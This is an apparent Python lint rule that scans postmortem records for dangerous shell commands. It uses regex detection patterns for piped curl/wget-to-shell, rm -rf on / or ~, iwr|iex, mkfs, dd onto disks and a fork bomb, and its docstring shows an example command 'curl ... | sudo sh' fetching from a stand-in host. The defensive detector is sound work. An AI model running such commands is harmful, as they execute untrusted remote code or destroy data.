"""PM7 for commands that harm whoever copies them from a record."""

from __future__ import annotations

import re
from collections.abc import Iterator

from ml_postmortems.lazy_pattern import lazy_pattern
from ml_postmortems.lint.finding import Level, Problem
from ml_postmortems.lint.registry import file_rule
from ml_postmortems.reading.faults import shown
from ml_postmortems.reading.record_file import RecordFile

_SIGNS = ("curl ", "wget ", "rm -", "iwr ", "/dev/", ":(){")
"""A text without any of them holds no such command; to look for them first is far quicker."""
_SHELL = r"(?:sudo (?:-\w+ )*)?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da|k)?sh|python3?|perl|ruby|node)\b"
_COMMANDS = lazy_pattern(
    rf"\b(?:curl|wget)\b[^\n|;`]*\|\s*{_SHELL}(?! -c)|\b{_SHELL} (?:-c )?[\"']?(?:<\(|\$\()(?:curl|wget)\b[^\n)]*\)"
    r"|\brm +(?:-[a-zA-Z-]+ +)*-[a-zA-Z]*[rR][a-zA-Z]* +(?:-[a-zA-Z-]+ +)*[\"']?(?:/|~|\$HOME)/?\*?[\"']?(?=[\s`;&|]|$)"
    r"|\biwr\b[^\n|]*\| *iex\b|\bmkfs(?:\.\w+)? +/dev/\w+"
    r"|\bdd\b[^\n]*\bof=/dev/(?:sd|nvme|disk)\w*|:\(\)\{ ?:\|:& ?\};:",
    re.MULTILINE,
)


@file_rule("PM719", Level.WARNING)
def destructive_command(file: RecordFile) -> Iterator[Problem]:
    """No text holds a command that runs what a stranger's page sends, or that deletes everything.

    What it does
        Looks in the whole file, code included, for a download that is piped into a shell, for `rm -rf /` and `~`, and
        for commands that overwrite a disk.
    Why it matters
        Somebody copies it at night. What ran by mistake can be told without being ready to run.
    Example
        `curl -sL https://fix.example.com/repair.sh | sudo sh`
    Instead
        `Fetch the script, read it, and compare its hash before you run it.`
    """
    if not any(sign in file.text for sign in _SIGNS):
        return
    for match in _COMMANDS.finditer(file.text):
        line = file.text.count("\n", 0, match.start()) + 1
        yield Problem(
            line,
            "record",
            "must hold no command that harms whoever copies it",
            shown(" ".join(match.group().split())),
            "tell what it does in words, or cut it short: `curl ... | sh`",
        )
